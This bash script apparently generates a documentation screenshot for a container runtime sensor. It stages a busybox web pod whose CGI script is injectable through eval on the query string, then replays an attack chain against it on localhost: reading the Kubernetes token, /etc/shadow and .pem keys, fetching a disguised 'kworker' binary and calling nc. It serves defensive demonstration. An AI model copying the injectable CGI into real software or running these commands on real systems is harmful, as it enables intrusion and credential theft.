#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# [PAGE=DIRECTORY] picture.sh [PNG]: the page of a real case, as docs/html.png shows it: a web server with a CGI program that runs what it is asked for,
# somebody who asks, and somebody who comes in to look. Root, runc, Chromium; not a test.
. "$(dirname "$0")/../e2e/lib.sh"
png=${1:-docs/html.png}

sensor_start || exit 1
python3 -m http.server --bind 127.0.0.1 --directory "$work" 0 >"$work/http.log" 2>&1 &
on_exit+=("kill $!")
wait_for 10 grep -q 'port [0-9]' "$work/http.log" || [ -n "$(ss -Hltnp | grep "pid=$!,")" ]
dropper=$(ss -Hltnp | sed -nE "s/.*127\.0\.0\.1:([0-9]+).*pid=$!,.*/\1/p")
cp "$(command -v busybox)" "$work/kworker"
port=18088

id=$(new_id) uid=$(cat /proc/sys/kernel/random/uuid)
POD=checkout-6d5f9c7b8-x2x7k NAMESPACE=shop POD_UID=$uid CONTAINER=web IMAGE=registry.example/shop/checkout:4.2 ROOTFS=$work/web/rootfs \
	tests/demo/bundle.sh "$work/web" "$id" "/$tree/kubepods/burstable/pod$uid/$id" /bin/httpd -f -p 127.0.0.1:$port -h /www
for applet in httpd wget nc ping nslookup chmod ps uname whoami find grep date head; do ln -sf busybox "$work/web/image/bin/$applet"; done
mkdir -p "$work/web/image/www/cgi-bin" "$work/upper" "$work/workdir"
for page in index cart about terms; do echo "<h1>$page</h1>" >"$work/web/image/www/$page.html"; done
cat >"$work/web/image/www/cgi-bin/status" <<'CGI'
#!/bin/sh
echo "Content-Type: text/plain"
echo
eval "printf 'host %s' $(httpd -d "$QUERY_STRING")"
CGI
chmod +x "$work/web/image/www/cgi-bin/status"
mount -t overlay -o "lowerdir=$work/web/image,upperdir=$work/upper,workdir=$work/workdir" varve-picture "$work/web/rootfs"
on_exit+=("umount $work/web/rootfs")
# As below a runtime's shim, and not below a test.
cp "$(command -v bash)" "$work/containerd-shim"
shim() { setsid -f "$work/containerd-shim" -c 'runc --root "$0" "$@" </dev/null >/dev/null 2>&1; true' "$work/runc" "$@"; }
shim run --detach --bundle "$work/web" "$id"
wait_for 10 curl -s "http://127.0.0.1:$port/index.html"

visit() { # N: customers
	for _ in $(seq "$1"); do
		for page in index cart about terms; do curl -s "http://127.0.0.1:$port/$page.html" >/dev/null; done
		sleep 0.0$((RANDOM % 9 + 1))
	done
}
ask() { curl -s --get --data-urlencode "a; $1" "http://127.0.0.1:$port/cgi-bin/status" >/dev/null; }
visit 25
curl -s "http://127.0.0.1:$port/cgi-bin/status?checkout" >/dev/null
visit 15
ask 'id; uname -a'
sleep 0.4
ask 'cat /var/run/secrets/kubernetes.io/serviceaccount/token; cat /etc/shadow; find / -name "*.pem"'
visit 10
ask "mkdir /tmp/.x; wget -q -O /tmp/.x/kworker http://127.0.0.1:$dropper/kworker; chmod +x /tmp/.x/kworker"
ask '/tmp/.x/kworker nc -w 1 127.0.0.1 4444; for i in 1 2 3 4 5 6; do /tmp/.x/kworker true --threads 2; done; rm /tmp/.x/kworker'
visit 20
shim exec "$id" /bin/sh -c 'ps; ls -la /tmp/.x; head -n 1 /etc/passwd'
visit 10
runc_ kill "$id" KILL
wait_for 10 sh -c "runc --root '$work/runc' state '$id' | grep -q stopped"
runc_ delete "$id"
sensor_stop

"$VARVE" replay "$work/log" --pod shop/checkout-6d5f9c7b8-x2x7k --key "$work/log/sensor.pub" --format html >"$work/page.html"
PYTHONPATH=tests/e2e "$PYTHON" - "$work/page.html" "$png" <<'PY'
import sys, time
from browser import Browser
with Browser(1500, 960) as b:
    b.open(sys.argv[1])
    b.wait('document.documentElement?.dataset.ready')
    at = b.js('''(rows => { // the request that read the token: the CGI program, which began the cat
        for (let i = rows.findIndex(r => r.includes("cat /var/run")); i >= 0; i--)
            if (rows[i].includes("script"))
                return i + 1;
    })([...document.querySelectorAll("#tree .row")].map(r => r.innerText))''')
    b.click('#tree .row:nth-child(%d) .command' % at)
    time.sleep(0.5)
    b.screenshot(sys.argv[2])
PY
[ -z "${PAGE:-}" ] || cp -r "$work/page.html" "$work/log" "$PAGE"
ls -l "$png"
